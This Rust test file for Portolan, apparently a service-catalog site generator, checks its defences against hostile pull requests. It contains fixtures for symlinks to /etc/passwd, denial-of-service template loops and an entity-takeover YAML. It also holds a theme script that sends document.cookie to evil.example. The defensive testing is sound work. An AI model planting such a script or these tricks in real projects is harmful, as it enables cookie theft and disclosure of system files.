//! The trust model, from a pull request author's side: nothing is read
//! through a symlink out of the root, a theme is used only when
//! portolan.toml names it, and no file name can take over an entity.
//!
//! Every hostile case runs the real binary in a child process under a
//! memory limit (`ulimit -v`) and a timeout, so a regression fails the test
//! instead of exhausting the machine.

mod common;

use common::{GROUP, catalog, component};
use std::path::Path;
use std::process::Output;
use std::time::Duration;

/// Address-space limit for the child, in KiB (1 GiB, the target).
const MEMORY_KIB: u64 = 1024 * 1024;
/// Wall-clock limit for the child; the target is 5 s, with slack for a
/// loaded CI machine and a debug build.
const TIMEOUT: Duration = Duration::from_secs(20);

/// Runs `portolan ARGS` under the limits; panics when it overruns them or
/// dies of a signal, a panic (101) or an abort (134).
fn limited(args: &[&str], cwd: &Path) -> (Output, Duration) {
    common::portolan_limited(args, cwd, MEMORY_KIB, TIMEOUT)
}

fn text(o: &Output) -> String {
    format!(
        "{}{}",
        String::from_utf8_lossy(&o.stdout),
        String::from_utf8_lossy(&o.stderr)
    )
}

/// `(check id, status, first message)` of every check on an entity, from
/// the JSON export a build wrote.
fn checks(site: &Path, entity: &str) -> Vec<(String, String, String)> {
    let file = site.join(format!("api/entities/default/{entity}.json"));
    let text = std::fs::read_to_string(&file).unwrap_or_else(|e| panic!("{}: {e}", file.display()));
    let json: serde_json::Value = serde_json::from_str(&text).unwrap();
    let mut out = Vec::new();
    for card in json["scorecards"].as_array().unwrap() {
        for c in card["checks"].as_array().unwrap() {
            out.push((
                c["id"].as_str().unwrap().to_owned(),
                c["status"].as_str().unwrap().to_owned(),
                c["messages"][0].as_str().unwrap_or_default().to_owned(),
            ));
        }
    }
    out
}

fn status(checks: &[(String, String, String)], id: &str) -> (String, String) {
    let c = checks
        .iter()
        .find(|c| c.0 == id)
        .unwrap_or_else(|| panic!("no check `{id}` in {checks:?}"));
    (c.1.clone(), c.2.clone())
}

fn link(target: &str, at: &Path) {
    std::fs::create_dir_all(at.parent().unwrap()).unwrap();
    std::os::unix::fs::symlink(target, at).unwrap();
}

const DOCUMENTED: &str = "apiVersion: backstage.io/v1alpha1
kind: Component
metadata:
  name: svc
  annotations:
    backstage.io/techdocs-ref: dir:.
spec:
  type: service
  lifecycle: production
  owner: team-a
";

// ---------------------------------------------------------------- item 3

/// Every probe Portolan makes (TechDocs folder, README, CODEOWNERS,
/// runbook, portolan.toml, waivers.yaml, policies/, the theme) meets a
/// symlink out of the root: each is refused with E0006, nothing behind it
/// is read or counted, and no message says where a link points.
#[test]
fn no_probe_reads_through_a_symlink_out_of_the_root() {
    let dir = catalog(&[
        ("group.yaml", GROUP),
        ("svc/catalog-info.yaml", DOCUMENTED),
        ("svc/mkdocs.yml", "site_name: svc\n"),
    ]);
    let root = dir.path();
    let outside = tempfile::tempdir().unwrap();
    std::fs::create_dir_all(outside.path().join("templates")).unwrap();
    std::fs::write(
        outside.path().join("templates/base.html"),
        "STOLEN-THEME {% block content %}{% endblock %}",
    )
    .unwrap();
    std::fs::write(
        outside.path().join("evil.rego"),
        "package evil\nimport rego.v1\n",
    )
    .unwrap();
    let secret_dir = outside.path().to_str().unwrap();
    link("/", &root.join("svc/docs"));
    link("/etc/passwd", &root.join("svc/README.md"));
    link("/etc/passwd", &root.join("svc/CODEOWNERS"));
    link("/etc/passwd", &root.join("svc/RUNBOOK.md"));
    link("/etc/passwd", &root.join("portolan.toml"));
    link("/etc/passwd", &root.join("waivers.yaml"));
    link(secret_dir, &root.join("policies"));
    link(secret_dir, &root.join("theme"));
    link(
        &format!("{secret_dir}/does-not-exist"),
        &root.join("ghost.yaml"),
    );
    let (out, took) = limited(
        &["check", ".", "--format", "json", "--scorecard-details"],
        root,
    );
    let json: serde_json::Value = serde_json::from_slice(&out.stdout).unwrap();
    let mut escapes: Vec<String> = json["diagnostics"]
        .as_array()
        .unwrap()
        .iter()
        .filter(|d| d["code"] == "E0006")
        .map(|d| d["file"].as_str().unwrap_or_default().to_owned())
        .collect();
    escapes.sort();
    assert_eq!(
        escapes,
        [
            "ghost.yaml",
            "policies",
            "portolan.toml",
            "svc/CODEOWNERS",
            "svc/README.md",
            "svc/RUNBOOK.md",
            "svc/docs",
            "theme",
            "waivers.yaml"
        ],
        "{}",
        text(&out)
    );
    let all = text(&out);
    for leak in [secret_dir, "/etc/passwd", "root:x:0", "does-not-exist"] {
        assert!(!all.contains(leak), "output discloses `{leak}`:\n{all}");
    }
    assert!(took < Duration::from_secs(5), "check took {took:?}");
    // Nothing behind the links counts (no docs pages, no runbook), and the
    // build uses neither the linked theme nor the linked policies.
    let site = tempfile::tempdir().unwrap();
    let out_dir = site.path().join("out");
    let (built, took) = limited(
        &[
            "build",
            ".",
            "--out",
            out_dir.to_str().unwrap(),
            "--today",
            "2026-11-28",
        ],
        root,
    );
    assert!(took < Duration::from_secs(5), "build took {took:?}");
    let all = text(&built);
    let found = checks(&out_dir, "component/svc");
    assert_eq!(status(&found, "docs-found").0, "fail", "{all}");
    assert_eq!(
        status(&found, "runbook-link"),
        (
            "fail".to_owned(),
            "no runbook link or RUNBOOK.md".to_owned()
        )
    );
    let page = std::fs::read_to_string(out_dir.join("index.html")).unwrap();
    assert!(!page.contains("STOLEN-THEME"), "{all}");
    assert!(!out_dir.join("api/scorecards/evil.json").exists());
}

/// Links inside the root: a link to a file or a named folder is followed
/// (at its real place), but a recursive listing never descends a link to a
/// folder, so `docs/l0 -> .` … `docs/l11 -> .` (12^8 listings when
/// followed) and `theme/templates/a -> .` (an endless one) finish at once.
#[test]
fn links_inside_the_root_cannot_make_a_listing_loop_or_multiply() {
    let dir = catalog(&[
        ("group.yaml", GROUP),
        ("svc/catalog-info.yaml", DOCUMENTED),
        ("svc/mkdocs.yml", "site_name: svc\ndocs_dir: pages\n"),
        ("shared/pages/index.md", "# Svc\n"),
        ("shared/pages/more.md", "# More\n"),
        ("shared/readme.txt", "# Readme\n"),
        ("themes/mine/templates/home.html", "MY-HOME"),
        ("portolan.toml", "[site]\ntheme = \"mine\"\n"),
    ]);
    let root = dir.path();
    // The docs folder itself is a link inside the root: followed.
    link("../shared/pages", &root.join("svc/pages"));
    // A README that is a link to a file inside the root: followed.
    link("../shared/readme.txt", &root.join("svc/README.md"));
    for i in 0..12 {
        link(".", &root.join(format!("shared/pages/l{i}")));
    }
    link(".", &root.join("themes/mine/templates/a"));
    let site = tempfile::tempdir().unwrap();
    let out_dir = site.path().join("out");
    let (out, took) = limited(
        &[
            "build",
            ".",
            "--out",
            out_dir.to_str().unwrap(),
            "--today",
            "2026-11-28",
        ],
        root,
    );
    assert!(took < Duration::from_secs(5), "build took {took:?}");
    let all = text(&out);
    assert_eq!(out.status.code(), Some(0), "{all}");
    // Exactly the two pages at their real place, none through the links.
    let found = checks(&out_dir, "component/svc");
    assert_eq!(status(&found, "docs-found").0, "pass", "{all}");
    assert_eq!(
        status(&found, "several-pages"),
        ("fail".to_owned(), "only 2 page(s) of docs".to_owned())
    );
    let home = std::fs::read_to_string(out_dir.join("index.html")).unwrap();
    assert!(home.contains("MY-HOME"), "the named theme is used");
}

// ---------------------------------------------------------------- item 4

/// A pull request that adds `theme/static/app.js` (or any template) does
/// not change the site: the folder is not named in portolan.toml, so it is
/// ignored with a warning that says how to enable it.
#[test]
fn a_theme_folder_is_used_only_when_portolan_toml_names_it() {
    let dir = catalog(&[
        ("group.yaml", GROUP),
        ("svc.yaml", &component("svc", "team-a")),
        (
            "theme/static/app.js",
            "fetch('https://evil.example/'+document.cookie)",
        ),
        (
            "theme/templates/home.html",
            "{% extends \"base.html\" %}{% block content %}PWNED{% endblock content %}",
        ),
    ]);
    let root = dir.path();
    let site = tempfile::tempdir().unwrap();
    let out_dir = site.path().join("out");
    let (built, took) = limited(&["build", ".", "--out", out_dir.to_str().unwrap()], root);
    assert!(took < Duration::from_secs(5), "build took {took:?}");
    assert_eq!(built.status.code(), Some(0), "{}", text(&built));
    let js = std::fs::read_to_string(out_dir.join("static/app.js")).unwrap();
    assert!(
        !js.contains("evil.example"),
        "the PR's script was published"
    );
    let home = std::fs::read_to_string(out_dir.join("index.html")).unwrap();
    assert!(!home.contains("PWNED"));
    let (checked, _) = limited(&["check", "."], root);
    let report = text(&checked);
    assert_eq!(
        checked.status.code(),
        Some(0),
        "a warning, not an error: {report}"
    );
    assert!(
        report.contains("E0010 theme-not-enabled") && report.contains("theme_dir = \"theme\""),
        "{report}"
    );
    // Named, it is used.
    std::fs::write(
        root.join("portolan.toml"),
        "[site]\ntheme_dir = \"theme\"\n",
    )
    .unwrap();
    let (built, _) = limited(&["build", ".", "--out", out_dir.to_str().unwrap()], root);
    assert_eq!(built.status.code(), Some(0), "{}", text(&built));
    let home = std::fs::read_to_string(out_dir.join("index.html")).unwrap();
    assert!(home.contains("PWNED"));
    let (checked, _) = limited(&["check", "."], root);
    assert!(!text(&checked).contains("E0010"));
}

fn named_theme(home: &str) -> tempfile::TempDir {
    catalog(&[
        ("group.yaml", GROUP),
        ("svc.yaml", &component("svc", "team-a")),
        ("portolan.toml", "[site]\ntheme_dir = \"theme\"\n"),
        ("theme/templates/home.html", home),
    ])
}

/// A template that loops without writing (tera cannot be interrupted)
/// and one whose loops write: both stop at the page budget with E0011
/// naming the template, exit 1, and the last good site stays as it was.
#[test]
fn a_hung_template_fails_the_build_within_the_page_budget() {
    let good =
        named_theme("{% extends \"base.html\" %}{% block content %}GOOD{% endblock content %}");
    let site = tempfile::tempdir().unwrap();
    let out_dir = site.path().join("out");
    let out = out_dir.to_str().unwrap();
    let (built, _) = limited(&["build", ".", "--out", out], good.path());
    assert_eq!(built.status.code(), Some(0), "{}", text(&built));
    let before = common::tree(&out_dir);
    for body in ["", "x"] {
        let hung = format!(
            "{{% extends \"base.html\" %}}{{% block content %}}{{% for a in range(end=100000) %}}{{% for b in range(end=100000) %}}{body}{{% endfor %}}{{% endfor %}}{{% endblock content %}}"
        );
        std::fs::write(good.path().join("theme/templates/home.html"), hung).unwrap();
        let (built, took) = limited(&["build", ".", "--out", out], good.path());
        let report = text(&built);
        assert_eq!(built.status.code(), Some(1), "{report}");
        assert!(
            report.contains("E0011 template-limit") && report.contains("theme/templates/home.html"),
            "{report}"
        );
        assert!(took < Duration::from_secs(5), "took {took:?}");
        assert_eq!(common::tree(&out_dir), before, "the last good site is kept");
        let leftovers: Vec<_> = std::fs::read_dir(site.path())
            .unwrap()
            .map(|e| e.unwrap().file_name())
            .collect();
        assert_eq!(leftovers, ["out"], "no staging folder is left behind");
    }
}

/// A template that writes a huge page is stopped at the size budget
/// (32 MiB per page) instead of filling memory and disk.
#[test]
fn a_page_cannot_grow_past_the_size_budget() {
    // 4 KiB per iteration: the size budget is reached after about 8,000
    // iterations, long before the 2 s time budget even on a loaded machine
    // with a debug build (with 55 bytes per iteration it was a race).
    let cat = named_theme(&format!(
        "{{% extends \"base.html\" %}}{{% block content %}}{{% for a in range(end=100000) %}}{{% for b in range(end=1000) %}}{}{{% endfor %}}{{% endfor %}}{{% endblock content %}}",
        "x".repeat(4096)
    ));
    let site = tempfile::tempdir().unwrap();
    let out_dir = site.path().join("out");
    let (built, took) = limited(
        &["build", ".", "--out", out_dir.to_str().unwrap()],
        cat.path(),
    );
    let report = text(&built);
    assert_eq!(built.status.code(), Some(1), "{report}");
    assert!(
        report.contains("E0011 template-limit") && report.contains("MiB"),
        "{report}"
    );
    assert!(took < Duration::from_secs(5), "took {took:?}");
    assert!(!out_dir.exists());
}

// ---------------------------------------------------------------- item 5

const TEAMS: &str = "apiVersion: backstage.io/v1alpha1
kind: Group
metadata:
  name: payments-team
spec:
  type: team
  children: []
---
apiVersion: backstage.io/v1alpha1
kind: Group
metadata:
  name: mallory-team
spec:
  type: team
  children: []
";

const REAL: &str = "apiVersion: backstage.io/v1alpha1
kind: Component
metadata:
  name: payments-api
  description: Takes card payments
  links:
    - url: https://runbooks.corp.example/payments
      type: runbook
spec:
  type: service
  lifecycle: production
  owner: payments-team
  dependsOn: [component:ledger]
";

const TAKEOVER: &str = "apiVersion: backstage.io/v1alpha1
kind: Component
metadata:
  name: payments-api
  description: TAKEN OVER
  links:
    - url: https://evil.example/runbook
      type: runbook
spec:
  type: service
  lifecycle: production
  owner: mallory-team
";

/// `0-notes.yaml` sorts before the real service's file and defines the
/// same entity. Neither wins: the page shows the conflict (both files,
/// both owners, nothing else from either), no relation is drawn from either
/// definition, neither is scored, and E0110 is reported at both files.
#[test]
fn a_file_name_cannot_take_over_another_teams_entity() {
    let dir = catalog(&[
        ("teams.yaml", TEAMS),
        ("services/payments/catalog-info.yaml", REAL),
        ("0-notes.yaml", TAKEOVER),
        ("ledger.yaml", &component("ledger", "payments-team")),
        (
            "checkout.yaml",
            &format!(
                "{}  dependsOn: [component:payments-api]\n",
                component("checkout", "payments-team")
            ),
        ),
    ]);
    let root = dir.path();
    let (checked, took) = limited(&["check", ".", "--format", "json"], root);
    assert!(took < Duration::from_secs(5));
    assert_eq!(checked.status.code(), Some(1));
    let json: serde_json::Value = serde_json::from_slice(&checked.stdout).unwrap();
    let diags = json["diagnostics"].as_array().unwrap();
    let mut dups: Vec<(String, String)> = diags
        .iter()
        .filter(|d| d["code"] == "E0110")
        .map(|d| {
            (
                d["file"].as_str().unwrap().to_owned(),
                d["message"].as_str().unwrap().to_owned(),
            )
        })
        .collect();
    dups.sort();
    assert_eq!(dups.len(), 2, "{dups:?}");
    assert_eq!(dups[0].0, "0-notes.yaml");
    assert!(
        dups[0]
            .1
            .contains("also defined in `services/payments/catalog-info.yaml`")
    );
    assert_eq!(dups[1].0, "services/payments/catalog-info.yaml");
    assert!(dups[1].1.contains("also defined in `0-notes.yaml`"));
    // A reference to the contested entity is not dangling.
    assert!(!diags.iter().any(|d| d["code"] == "E0103"), "{diags:?}");
    // Neither definition is scored.
    assert!(
        !diags.iter().any(|d| d["message"]
            .as_str()
            .unwrap_or_default()
            .contains("payments-api")
            && d["code"] == "E0300"),
        "{diags:?}"
    );

    let site = tempfile::tempdir().unwrap();
    let out_dir = site.path().join("out");
    let (built, _) = limited(
        &[
            "build",
            ".",
            "--out",
            out_dir.to_str().unwrap(),
            "--today",
            "2026-11-28",
        ],
        root,
    );
    assert_eq!(built.status.code(), Some(0), "{}", text(&built));
    let page =
        std::fs::read_to_string(out_dir.join("catalog/default/component/payments-api/index.html"))
            .unwrap();
    for shown in [
        "0-notes.yaml:4",
        "services/payments/catalog-info.yaml:4",
        "mallory-team",
        "payments-team",
    ] {
        assert!(page.contains(shown), "the conflict page lacks `{shown}`");
    }
    for hidden in [
        "evil.example",
        "runbooks.corp.example",
        "TAKEN OVER",
        "Takes card payments",
        "quick-answers",
        "ledger",
    ] {
        assert!(!page.contains(hidden), "the conflict page shows `{hidden}`");
    }
    // Nothing from either definition anywhere else: no export, no relation
    // on the teams' or the other components' pages, no scorecard entry.
    assert!(
        !out_dir
            .join("api/entities/default/component/payments-api.json")
            .exists()
    );
    for (file, name) in [
        (
            "catalog/default/group/payments-team/index.html",
            "payments-team",
        ),
        (
            "catalog/default/group/mallory-team/index.html",
            "mallory-team",
        ),
        ("catalog/default/component/ledger/index.html", "ledger"),
        ("catalog/default/component/checkout/index.html", "checkout"),
        ("api/scorecards/production-readiness.json", "scorecard"),
    ] {
        let text = std::fs::read_to_string(out_dir.join(file)).unwrap();
        assert!(
            !text.contains("payments-api"),
            "{name} mentions payments-api"
        );
        assert!(!text.contains("evil.example"), "{name} shows the takeover");
    }
    // The export lists both definitions as skipped, never as the entity.
    let export: serde_json::Value =
        serde_json::from_str(&std::fs::read_to_string(out_dir.join("api/catalog.json")).unwrap())
            .unwrap();
    let export_text = export["entities"].to_string();
    assert!(!export_text.contains("payments-api"), "{export_text}");
    let skipped: Vec<&str> = export["skipped"]
        .as_array()
        .unwrap()
        .iter()
        .filter(|s| {
            s["what"]
                .as_str()
                .unwrap()
                .contains("neither definition is published")
        })
        .map(|s| s["file"].as_str().unwrap())
        .collect();
    assert_eq!(
        skipped,
        ["0-notes.yaml", "services/payments/catalog-info.yaml"]
    );
}
